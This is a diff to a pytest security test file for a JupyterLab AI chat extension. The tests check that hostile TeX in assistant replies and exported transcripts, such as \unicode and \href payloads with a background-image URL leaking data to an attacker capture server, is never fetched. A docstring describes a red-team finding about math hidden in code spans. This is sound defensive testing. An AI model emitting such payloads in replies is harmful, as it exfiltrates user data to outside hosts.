@@ -20,10 +20,9 @@ import json
 from pathlib import Path
 
 import pytest
-from browser.lab import CHROMIUM, CHROMIUM_ARGS, Lab
+from browser.session import opened
 from capture import HttpCapture
 from conftest import cell, scripted
-from test_browser import ENV, VIEWPORT, notebook_page, sync_playwright  # noqa: F401 (the fixture)
 
 from ygpt_magic.emulator import start_local_server
 
@@ -66,10 +65,10 @@ def hostile_notebook(folder: Path) -> Path:
     return path
 
 
-def test_no_door_lets_a_reply_file_or_metadata_run_in_jupyterlab(sync_playwright, tmp_path):
+def test_no_door_lets_a_reply_file_or_metadata_run_in_jupyterlab(lab, tmp_path):
     script = tmp_path / "script.json"
     script.write_text(json.dumps({"replies": [{"user": PROMPT, "reply": REPLY}]}), encoding="utf-8")
-    hostile_notebook(tmp_path)
+    hostile_notebook(lab[0].folder)  # beside the story's notebook: the kernel's working folder
     tool = f"def lookup(query: str) -> str:\n    '''Look up a review.'''\n    return {REPLY!r}"
     with start_local_server(scripts=[script]) as server:
         server.faults.latency(0.003)  # the streamed reply arrives in several frames, each rendered
@@ -88,7 +87,7 @@ def test_no_door_lets_a_reply_file_or_metadata_run_in_jupyterlab(sync_playwright
             f"%%ygpt --dry-run --once\n{PAYLOADS[0]} {PAYLOADS[3]}",
             "%ygpt panel",
         ]
-        with notebook_page(sync_playwright, tmp_path, cells) as page:
+        with opened(*lab, "doors.ipynb", cells) as page:
             requests: list[str] = []
             page.on("request", lambda request: requests.append(request.url))
             panel = page.locator(".ygpt-panel")
@@ -143,7 +142,7 @@ def hostile_math(attacker: str) -> list[str]:
             r"$\href{/api/contents}{see the file}$", rf"\({fetch}\)", f"$ {fetch} $"]
 
 
-def test_tex_in_a_reply_fetches_nothing_covers_nothing_and_links_nowhere(sync_playwright, tmp_path):
+def test_tex_in_a_reply_fetches_nothing_covers_nothing_and_links_nowhere(lab, tmp_path):
     with HttpCapture() as attacker:  # another server: the page must never call it by itself
         hostile = hostile_math(attacker.url)
         reply = "\n\n".join(["The customer is happy.", *PLAIN_MATH, *hostile, "It costs $5 and $10."])
@@ -152,7 +151,7 @@ def test_tex_in_a_reply_fetches_nothing_covers_nothing_and_links_nowhere(sync_pl
         with start_local_server(scripts=[script]) as server:
             cells = [f"%load_ext ygpt_magic\n%ygpt connect {server.address} --insecure",
                      f"%%ygpt --once\n{MATH_PROMPT}"]
-            with notebook_page(sync_playwright, tmp_path, cells) as page:
+            with opened(*lab, "math.ipynb", cells) as page:
                 output = page.locator(".jp-Notebook .jp-Cell").nth(1).locator(OUTPUT)
                 output.filter(has_text="It costs").first.wait_for(timeout=60_000)
                 output.locator("mjx-container").nth(len(PLAIN_MATH) - 1).wait_for()
@@ -179,29 +178,28 @@ def preview_markdown_files(folder: Path) -> None:
         json.dumps({"defaultViewers": {"markdown": "Markdown Preview"}}))
 
 
-def test_an_exported_transcript_typesets_nothing_hidden_in_a_code_span(sync_playwright, shell, tmp_path):
+def test_an_exported_transcript_typesets_nothing_hidden_in_a_code_span(lab, shell, tmp_path):
     """findings/redteam3.md 2: JupyterLab's removeMath reads ``\\\\(`` … ``\\\\)`` in the Markdown
     source across a code span, so the ``\\unicode`` inside the span was typeset and fetched."""
+    jupyterlab, context = lab
     with HttpCapture() as attacker:
         fetch = rf"\unicode[x; background-image:url({attacker.url}/leak?d=the-secret-plan)]{{x41}}"
         reply = "\n\n".join([f"The formula is \\\\( a `{fetch}` \\\\)",
                               f"- in a list: \\\\[ `{fetch}` \\\\]", f"A `\\begin{{x}}` and `{fetch}` `\\end{{x}}`"])
         with scripted(shell, tmp_path, "Explain the formula", reply):
             cell(shell, "%%ygpt\nExplain the formula")
-            cell(shell, f"%ygpt export {tmp_path / 'chat.md'}")
-        preview_markdown_files(tmp_path)
-        with Lab(tmp_path, ENV) as lab, sync_playwright() as playwright:
-            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-            try:
-                page = browser.new_context(viewport=VIEWPORT).new_page()
-                page.goto(lab.url("chat.md"))
-                preview = page.locator(".jp-RenderedMarkdown").filter(has_text="The formula is")
-                preview.wait_for(timeout=60_000)
-                page.wait_for_timeout(3000)  # MathJax done, any fetch made
-                shown = "\n".join(preview.all_inner_texts())
-                typeset = preview.locator("mjx-container").count()
-            finally:
-                browser.close()
+            cell(shell, f"%ygpt export {jupyterlab.folder / 'exported-chat.md'}")
+        preview_markdown_files(jupyterlab.folder)  # read by the server when the page asks for settings
+        page = context.new_page()
+        try:
+            page.goto(jupyterlab.url("exported-chat.md"))
+            preview = page.locator(".jp-RenderedMarkdown").filter(has_text="The formula is")
+            preview.wait_for(timeout=60_000)
+            page.wait_for_timeout(3000)  # MathJax done, any fetch made
+            shown = "\n".join(preview.all_inner_texts())
+            typeset = preview.locator("mjx-container").count()
+        finally:
+            page.close()
     assert not attacker.seen, f"the preview called another server by itself: {attacker.seen}"
     assert typeset == 0, "nothing in the transcript is math"
     assert fetch in shown, "the code is readable as written"
